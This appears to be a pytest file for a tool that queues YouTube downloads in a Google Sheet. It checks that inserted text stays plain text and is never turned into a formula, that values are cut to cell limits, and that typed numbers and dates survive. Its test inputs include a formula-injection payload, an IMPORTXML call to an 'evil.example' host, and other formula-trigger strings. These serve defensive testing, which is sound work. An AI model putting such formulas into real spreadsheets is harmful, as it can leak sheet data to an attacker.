"""Hostile text: it is stored as text, truncated to what fits, and never becomes a formula."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.fake_google.cells import shown
from tests.fake_google.grid import Sheet
from tests.support.sheet import DEAD, SOURCE_TAB, VIDEOS, SheetDesk, a_video, sheet_desk, video_url
from youtube_download_coordinator.models import Done, Failure, Verdict
from youtube_download_coordinator.queue.store import SOURCES, VIDEO_TASKS

HOSTILE = [
    '=IMPORTXML("https://evil.example/","//a")', "+1", "-2+3", "@SUM(A1)", "0012345", "1e9", "TRUE", "1/2", "2026-11-22",
    "'quoted", "🦆 emoji", "line\nbreak", "tab\tbed", " spaces ", "#REF!", "$1.50", "50%", "",
]  # fmt: skip


@pytest.fixture
def desk() -> Iterator[SheetDesk]:
    with sheet_desk() as here:
        yield here
        assert here.book.formulas() == []


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_inserted_stands_there_as_text(desk: SheetDesk, text: str) -> None:
    queue = desk.queue()
    queue.add(VIDEO_TASKS, [a_video(1, title=text, accent=text)])
    header, row = desk.book.rows(VIDEOS)
    cells = dict(zip(header, row, strict=False))
    assert cells.get("Title", "") == text
    assert cells["ID"] == "1"
    (found,) = queue.rows(VIDEO_TASKS)
    assert (found.title, found.accent) == (text, text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_result_and_an_error_are_shown_as_text(desk: SheetDesk, text: str) -> None:
    queue = desk.queue()
    queue.add(VIDEO_TASKS, [a_video(1), a_video(2)])
    done, failed = sorted(queue.claim(VIDEO_TASKS, 2), key=lambda claim: claim.row.id)
    failure = Failure(verdict=Verdict.PERMANENT, reason=text or "none", message=text)
    queue.settle([(done, Done(result=text)), (failed, failure)])
    desk.show()
    assert desk.line(video_url(1))["Result"] == " ".join(text.split())
    assert " ".join(text.split()) in desk.line(video_url(2), DEAD)["LastError"]
    assert all(isinstance(cell, str) for row in desk.book.rows(VIDEOS) + desk.book.rows(DEAD) for cell in row)


def test_sixty_thousand_characters_are_cut_to_what_a_cell_holds(desk: SheetDesk) -> None:
    queue = desk.queue()
    queue.add(VIDEO_TASKS, [a_video(1, title="x" * 60_000)])
    (claim,) = queue.claim(VIDEO_TASKS, 1)
    queue.settle([(claim, Done(result="y" * 60_000))])
    desk.show()
    line = desk.line(video_url(1))
    assert len(line["Title"]) == 50_000
    assert len(line["Result"]) == 300


def test_what_people_type_as_numbers_and_dates_survives(desk: SheetDesk) -> None:
    queue = desk.queue()
    desk.person.insert_column(VIDEOS, 0, "Age")
    queue.add(VIDEO_TASKS, [a_video(1)])
    desk.person.edit(VIDEOS, 1, "Age", "42")
    desk.person.edit(VIDEOS, 1, "Accent", "1/2/2026")
    before = dict(zip(*desk.book.rows(VIDEOS), strict=False))
    (claim,) = queue.claim(VIDEO_TASKS, 1)
    assert claim.row.extra == {"Age": "42"}
    queue.settle([(claim, Done())])
    desk.show()
    after = dict(zip(*desk.book.rows(VIDEOS), strict=False))
    assert (after["Age"], after["Accent"]) == (before["Age"], before["Accent"])
    assert not isinstance(after["Age"], str)


MADE_BY_SHEETS = ["TRUE", "2024-01-02", "1/2/2024", "007", "1e3", "50%", "12:30"]
"""Sheets makes a number, a date, a time or a boolean of each."""


@pytest.mark.parametrize("text", MADE_BY_SHEETS)
def test_what_sheets_makes_of_an_accent_is_read_as_shown_and_left_alone(desk: SheetDesk, text: str) -> None:
    """Give workers, and the videos of a source, what people see. No cell that a person typed is changed."""
    queue = desk.queue()
    columns = ("Accent", "Type")
    desk.person.insert_row(VIDEOS, 1, {"URL": video_url(1), **dict.fromkeys(columns, text)})
    desk.person.insert_row(SOURCE_TAB, 1, {"URL": "https://www.youtube.com/@somebody", **dict.fromkeys(columns, text)})
    sheets = [desk.book.tab(tab) for tab in (VIDEOS, SOURCE_TAB)]
    typed = [[cells(sheet, column) for column in columns] for sheet in sheets]
    assert not isinstance(typed[0][0][0], str)
    displayed = shown(*typed[0][0])

    (video,) = queue.claim(VIDEO_TASKS, 1)
    (source,) = queue.claim(SOURCES, 1)
    assert {video.row.accent, video.row.type, source.row.accent, source.row.type} == {displayed}
    queue.add(VIDEO_TASKS, [a_video(2, accent=source.row.accent, type=source.row.type)])
    queue.settle([(video, Done(result="ok"))])
    queue.settle([(source, Done())])
    desk.show()

    assert [[cells(sheet, column) for column in columns] for sheet in sheets] == typed
    assert desk.line(video_url(2))["Accent"] == displayed, "it is text there, and is not made a number again"
    assert desk.line(video_url(1))["Status"] == "done"


def cells(sheet: Sheet, column: str) -> tuple[Any, Any]:
    """Return the value and the format of the first line's cell."""
    at = [sheet.values.get(0, index) for index in range(sheet.columns)].index(column)
    return sheet.values.get(1, at), sheet.formats.get(1, at)
